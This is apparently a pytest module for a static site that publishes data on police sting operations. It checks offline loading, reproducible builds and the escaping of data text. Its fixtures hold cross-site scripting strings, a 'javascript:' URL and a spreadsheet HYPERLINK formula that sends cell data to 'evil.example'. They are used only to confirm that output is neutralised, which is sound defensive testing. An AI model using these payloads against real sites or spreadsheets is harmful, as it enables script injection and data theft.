"""The data pages (explorer, operation pages, conflicts page, CSV files) and so.table.

The pages are written with ``write_data_pages`` alone (no notebooks), from the real data
once per session, and from small synthetic data for the escaping checks. Each page must
load nothing from the network, escape every text from the data and come out
byte-identical from two builds.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

import sting_outcomes as so
from conftest import read_csv, write_csv
from sitecheck import ResourceCollector
from sitecheck import digests as file_digests
from sting_outcomes.paths import DATA_DIR
from sting_outcomes.site.pages import PageLink, write_data_pages
from sting_outcomes.tables import percent

LINKS = [PageLink("01_dataset.html", "The dataset")]
EVIL_TITLE = '<script>alert("title")</script>'
EVIL_NOTE = '"><img src=x onerror=alert(1)>'
EVIL_NAME = "Op <b onmouseover=alert(2)>X</b>"
EVIL_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def write_site(out: Path, data_dir: Path | None = None) -> Path:
    ds = so.load(data_dir)
    out.mkdir(parents=True, exist_ok=True)
    write_data_pages(out, ds, LINKS, {"data": ds.version})
    return out


def real_site(tmp_path_factory) -> Path:
    """The data pages of the real data, written once per test session (test_browser.py
    uses the same folder)."""
    out = tmp_path_factory.getbasetemp() / "data-pages-real"
    if not (out / ".complete").is_file():
        shutil.rmtree(out, ignore_errors=True)
        write_site(out)
        (out / ".complete").write_text("", encoding="utf-8")
    return out


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    return real_site(tmp_path_factory)


@pytest.fixture(scope="module")
def ds() -> so.Dataset:
    return so.load()


def digests(folder: Path) -> dict[str, str]:
    """The site's files, leaving out this module's own marker and the screenshots."""
    return {
        name: digest
        for name, digest in file_digests(folder).items()
        if name != ".complete" and not name.startswith("screenshots/")
    }


def html_pages(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*.html") if "screenshots" not in p.parts)


# -- what is written ------------------------------------------------------------------------


def test_every_data_page_is_written(site: Path, ds: so.Dataset) -> None:
    for name in ("index.html", "explorer.html", "conflicts.html", "figures_normalized.csv", "sources.csv"):
        assert (site / name).is_file(), name
    ops = sorted(ds.operations["operation_id"].astype(str))
    assert len(ops) >= 27
    assert sorted(p.stem for p in (site / "operations").glob("*.html")) == ops
    index = (site / "index.html").read_text(encoding="utf-8")
    explorer = (site / "explorer.html").read_text(encoding="utf-8")
    for op in ops:
        assert f'href="operations/{op}.html"' in index, op
    assert "'<a href=\"operations/' + encodeURIComponent(r.operation_id)" in explorer
    assert 'href="conflicts.html"' in index


def test_pages_load_nothing_from_the_network(site: Path) -> None:
    pages = html_pages(site)
    assert len(pages) >= 30
    for page in pages:
        text = page.read_text(encoding="utf-8")
        collector = ResourceCollector()
        collector.feed(text)
        remote = [u for u in collector.urls if not u.startswith("data:image/png;base64,")]
        assert remote == [], f"{page.name} loads {remote[:3]}"
        assert "@import" not in text, page.name
        styles = " ".join(re.findall(r"<style>(.*?)</style>", text, flags=re.DOTALL))
        assert not re.search(r"url\(\s*['\"]?(https?:)?//", styles), f"{page.name}: a style loads from the network"
        assert "<script src" not in text, page.name


SVG = "{http://www.w3.org/2000/svg}"


def test_two_builds_are_byte_identical(site: Path, tmp_path: Path) -> None:
    again = write_site(tmp_path / "again")
    assert digests(again) == digests(site)


def test_timelines_are_inline_svg_charts_wide_enough_to_read(site: Path) -> None:
    for page in sorted((site / "operations").glob("*.html")):
        text = page.read_text(encoding="utf-8")
        charts = re.findall(r'<figure class="timeline"><div class="chart">(<svg .*?</svg>)</div>', text, re.S)
        assert len(charts) == 1, f"{page.name}: {len(charts)} timeline charts"
        svg = ElementTree.fromstring(charts[0])  # well-formed XML, so every label was escaped
        width = float(svg.get("viewBox").split()[2])
        assert width >= 750, f"{page.name}: chart only {width} px wide"
        assert svg.find(f"{SVG}title").text, page.name  # the accessible name
        assert not svg.findall(f".//{SVG}script") and "<img" not in charts[0]
        assert "What is drawn:" in text and "Source: " in text


# -- the explorer ---------------------------------------------------------------------------


def embedded(page: Path, element_id: str):
    text = page.read_text(encoding="utf-8")
    m = re.search(rf'<script type="application/json" id="{element_id}">(.*?)</script>', text, flags=re.DOTALL)
    assert m, element_id
    return json.loads(m.group(1))


def test_explorer_embeds_every_figure_with_its_source(site: Path, ds: so.Dataset) -> None:
    rows = embedded(site / "explorer.html", "figures-data")
    assert [r["figure_id"] for r in rows] == sorted(ds.figures["figure_id"].astype(str))
    src = ds.sources.set_index("source_id")
    for r in rows[:: max(1, len(rows) // 50)]:
        assert r["publisher"] == src.at[r["source_id"], "publisher"]
        assert r["url"] == src.at[r["source_id"], "url"]
        assert r["source_kind"] == src.at[r["source_id"], "source_kind"]
        assert r["scope"] in ("total", "part")
    config = embedded(site / "explorer.html", "figures-config")
    visible = [c[0] for c in config["columns"] if c[2]]
    assert visible == [
        "figure_id",
        "operation",
        "jurisdiction",
        "metric",
        "value",
        "unit",
        "qualifier",
        "as_of",
        "scope",
        "source_kind",
        "publisher",
        "source",
    ]
    assert {"value_std", "unit_std", "note", "locator", "url"} <= {c[0] for c in config["columns"]}


def test_explorer_inlines_the_table_library(site: Path) -> None:
    text = (site / "explorer.html").read_text(encoding="utf-8")
    bundle = re.search(r'<script type="text/plain" id="dt-bundle">([A-Za-z0-9+/=]+)</script>', text)
    assert bundle, "the DataTables bundle is not embedded"
    js = base64.b64decode(bundle.group(1))
    assert b"DataTables" in js and b"csvHtml5" in js
    for facet in ("operation_id", "jurisdiction", "metric", "scope", "source_kind", "publisher"):
        assert f'data-facet="{facet}"' in text
    assert 'data-range="from"' in text and 'data-range="to"' in text
    assert '<option value="Europol">' in text


def test_csv_files_carry_sources_and_addresses(site: Path, ds: so.Dataset) -> None:
    with (site / "figures_normalized.csv").open(encoding="utf-8", newline="") as f:
        figures = list(csv.DictReader(f))
    assert len(figures) == len(ds.figures)
    assert {"url", "publisher", "source_kind", "source_title", "value_std", "unit_std", "scope"} <= set(figures[0])
    with (site / "sources.csv").open(encoding="utf-8", newline="") as f:
        sources = list(csv.DictReader(f))
    assert len(sources) == len(ds.sources)
    assert {"source_id", "url", "title", "publisher", "source_kind", "figures", "operations"} <= set(sources[0])
    assert sum(int(s["figures"]) for s in sources) == len(ds.figures)


# -- operation pages and conflicts ----------------------------------------------------------


def test_operation_page_has_every_section(site: Path, ds: so.Dataset) -> None:
    text = (site / "operations" / "encrochat.html").read_text(encoding="utf-8")
    for anchor in ("timeline", "totals", "conflicts", "parts", "sources", "sought"):
        assert f'id="{anchor}"' in text, anchor
    assert "2020-07-02" in text  # the action day
    mine = ds.figures[ds.figures["operation_id"] == "encrochat"]
    parts = mine[mine["scope"].astype(str) == "part"]
    assert len(parts) > 10
    part_section = text[text.index('id="parts"') : text.index('id="sources"')]
    for fid in parts["figure_id"]:
        assert f">{fid}</td>" in part_section, fid
    # what was sought and not found, from the codebook
    sought = text[text.index('id="sought"') :]
    assert "<mark>EncroChat</mark>" in sought or "<mark>Venetic</mark>" in sought
    assert '../explorer.html#operation_id=encrochat"' in text
    assert '<a href="../index.html">' in text  # the shell's links climb out of operations/


def test_every_conflict_is_on_the_conflicts_page_with_both_notes(site: Path, ds: so.Dataset) -> None:
    pairs = so.conflicts(ds.normalized)
    assert len(pairs)
    text = (site / "conflicts.html").read_text(encoding="utf-8")
    notes = ds.figures.set_index("figure_id")["note"]
    for r in pairs.itertuples():
        start = text.index(f'id="pair-{r.figure_id_a}-{r.figure_id_b}"')
        card = text[
            start : text.index('<div class="pair"', start + 10) if '<div class="pair"' in text[start + 10 :] else None
        ]
        for fid in (r.figure_id_a, r.figure_id_b):
            assert f"<code>{fid}</code>" in card
            note = notes.get(fid)
            if isinstance(note, str):
                from html import escape

                assert escape(note) in card, fid
        assert f"{percent(r.rel_diff)} apart" in card
    for op in pairs["operation_id"].unique():
        page = (site / "operations" / f"{op}.html").read_text(encoding="utf-8")
        n = int((pairs["operation_id"] == op).sum())
        assert page.count('<div class="pair"') == n, op


def test_sought_not_found_is_read_per_operation(ds: so.Dataset) -> None:
    from sting_outcomes.site.operation_pages import sought_for, sought_not_found

    items = sought_not_found(DATA_DIR / "README.md")
    assert len(items) >= 5
    ops = {str(r["operation_id"]): r for _, r in ds.operations.iterrows()}

    def found(op: str) -> str:
        others = [r for o, r in ops.items() if o != op]
        return " ".join(text for _, text in sought_for(ops[op], items, others))

    assert "Phantom Secure" not in found("anom") or "ANOM" in found("anom")
    assert "DOJ, FBI, RCMP and AFP release" in found("phantom-secure")
    assert "Ghost" in found("ghost") and "trial outcomes for Exclu" not in found("ghost")
    assert "Hydra" in found("hydra")
    assert sought_not_found(DATA_DIR / "no-such-file.md") == []


# -- hostile text stays text ----------------------------------------------------------------


@pytest.fixture
def evil_data(mini_data: Path) -> Path:
    sources = read_csv(mini_data / "sources.csv")
    sources[0]["title"] = EVIL_TITLE
    sources[1]["publisher"] = EVIL_NAME
    sources[1]["title"] = EVIL_FORMULA
    write_csv(mini_data / "sources.csv", sources, header=list(sources[0]))
    figures = read_csv(mini_data / "figures.csv")
    for f in figures:
        f["note"] = EVIL_NOTE
        f["locator"] = EVIL_TITLE
    # a second, disagreeing figure from the other document, so that there is a conflict card
    figures.append({**figures[0], "figure_id": "op-one-0009", "source_id": "paper-2021-06", "value": "300"})
    write_csv(mini_data / "figures.csv", figures, header=list(figures[0]))
    ops = read_csv(mini_data / "operations.csv")
    ops[0]["name"] = EVIL_NAME
    ops[0]["summary"] = EVIL_NOTE
    ops[0]["aliases"] = "First;" + EVIL_TITLE
    write_csv(mini_data / "operations.csv", ops, header=list(ops[0]))
    (mini_data / "README.md").write_text(
        f"# Codebook\n\n## Sought, not found\n\n- **{EVIL_NAME}**: the release {EVIL_TITLE} and {EVIL_NOTE}.\n",
        encoding="utf-8",
    )
    return mini_data


def test_hostile_text_is_escaped_on_every_page(evil_data: Path, tmp_path: Path) -> None:
    site = write_site(tmp_path / "site", evil_data)
    pages = html_pages(site)
    assert {p.name for p in pages} >= {"index.html", "explorer.html", "conflicts.html", "op-one.html", "op-two.html"}
    assert '<div class="pair"' in (site / "conflicts.html").read_text(encoding="utf-8")
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for evil in (EVIL_TITLE, EVIL_NOTE, EVIL_NAME, "<img src=x", "<b onmouseover"):
            assert evil not in text, f"{page.name}: {evil!r}"
        collector = ResourceCollector()
        collector.feed(text)
        assert [u for u in collector.urls if not u.startswith("data:image/png;base64,")] == [], page.name
    explorer = (site / "explorer.html").read_text(encoding="utf-8")
    assert "\\u003cscript\\u003e" in explorer  # present, but only as escaped JSON
    op = (site / "operations" / "op-one.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in op
    # a title that a spreadsheet would run as a formula is neutralised in the CSV files
    for name in ("sources.csv", "figures_normalized.csv"):
        cells = [c for row in csv.reader(io.StringIO((site / name).read_text(encoding="utf-8"))) for c in row]
        assert "'" + EVIL_FORMULA in cells, name
        assert EVIL_FORMULA not in cells, name


# -- so.table -------------------------------------------------------------------------------


def test_table_shows_counts_as_integers_with_human_labels() -> None:
    frame = pd.DataFrame(
        {
            "figure_id": ["a-1", "a-2"],
            "value": [224.0, 3.75],
            "unit": ["count", "tonne"],
            "figures": [224.0, 4.0],
            "rel_diff": [0.123, 0.05],
            "as_of": pd.to_datetime(["2021-06-08", None]),
            "qualifier": ["at_least", "exact"],
            "value_usd": [1234567.8, float("nan")],
            "year": [2021, 2022],
        }
    )
    shown = so.table(frame, "Source: test", float_format="{:.2f}")._repr_html_()
    assert "224.0" not in shown and "4.00" not in shown
    assert '<td class="num">224</td>' in shown and '<td class="num">4</td>' in shown
    assert '<td class="num">3.75</td>' in shown  # explicit float_format for fractions
    for header in ("Figure", "Value", "Unit", "Figures", "Relative difference", "As of", "Qualifier", "Year"):
        assert f">{header}</th>" in shown, header
    assert "USD (ECB rate, as-of date)</th>" in shown
    assert ">12%</td>" in shown and ">5.0%</td>" in shown
    assert ">at least</td>" in shown
    assert ">2021</td>" in shown and "2,021" not in shown
    assert '<td class="date">2021-06-08</td>' in shown and '<td class="date">–</td>' in shown


def test_table_default_formats_keep_fractions_and_add_units_and_links() -> None:
    frame = pd.DataFrame(
        {
            "metric": ["cash_seized", "drugs_seized"],
            "cash_seized": [36732227.45, 1.5],
            "title": ["Release <A>", "Story B"],
            "url": ["https://example.org/a?x=1&y=2", "javascript:alert(1)"],
            "note": ["x" * 80, None],
        }
    )
    shown = so.table(frame, "c", units={"cash_seized": "USD"}, links={"title": "url"}).to_html()
    assert "Cash seized (USD)</th>" in shown
    assert ">36,732,227</td>" in shown and ">1.5</td>" in shown
    assert '<a href="https://example.org/a?x=1&amp;y=2" rel="noopener noreferrer">Release &lt;A&gt;</a>' in shown
    assert "javascript:" not in shown and ">Story B</td>" in shown
    assert ">Url</th>" not in shown  # the address column is not shown
    assert '<td class="text">' in shown  # long text gets the wrapping class
    assert ">cash seized</td>" in shown


def test_table_with_multiindex_columns_and_rows() -> None:
    frame = pd.DataFrame(
        [[1.0, 2.5, "x"]],
        columns=pd.MultiIndex.from_tuples([("first release", "all"), ("first release", "primary"), ("spread", "")]),
        index=pd.MultiIndex.from_tuples([("users", "ANOM")], names=["definition", "name"]),
    )
    shown = so.table(frame, "c").to_html()
    assert '<th colspan="2">First release</th>' in shown
    assert "<th>Definition</th><th>Name</th>" in shown
    assert "<th>users</th><th>ANOM</th>" in shown


def test_an_empty_table_fails() -> None:
    with pytest.raises(ValueError, match="empty table"):
        so.table(pd.DataFrame({"a": []}), "Source: nothing")


def test_table_still_takes_the_old_arguments() -> None:
    shown = so.table(pd.DataFrame({"x": [0.123456]}), "c", "{:.3f}")
    assert ">0.123</td>" in shown._repr_html_()
    assert "0.123456" in repr(shown)


def test_csv_sample_is_parseable(site: Path) -> None:
    text = (site / "sources.csv").read_text(encoding="utf-8")
    assert "\r\n" not in text
    assert len(list(csv.reader(io.StringIO(text)))) > 100


def test_charts_do_not_depend_on_the_notebook_theme(ds: so.Dataset) -> None:
    import matplotlib

    from sting_outcomes.site.charts import timeline_svg
    from sting_outcomes.site.operation_pages import timeline_job

    points = so.series(ds.normalized, ds.operations)
    op = ds.operations.set_index("operation_id", drop=False).loc["ironchat"]
    job = timeline_job(op, points[points["operation_id"] == "ironchat"], list(ds.metrics["metric"].astype(str)))
    plain = timeline_svg(**job)
    before = dict(matplotlib.rcParams)
    try:
        so.plots.set_theme()
        matplotlib.rcParams["font.family"] = "serif"
        assert timeline_svg(**job) == plain
    finally:
        matplotlib.rcParams.update({k: v for k, v in before.items() if k != "backend"})


def test_index_shows_the_findings_that_hold() -> None:
    """The index's 'what the data show' lists exactly the findings whose check holds."""
    import html as _html

    import sting_outcomes as so
    from sting_outcomes.site.pages import PageLink, index_body

    ds = so.load()
    body = index_body(ds, [PageLink("07_revisions.html", "07")], {})
    assert "What the data show" in body
    for f in so.findings(ds):
        assert (_html.escape(f.text) in body) == f.holds
    assert 'href="07_revisions.html#' in body
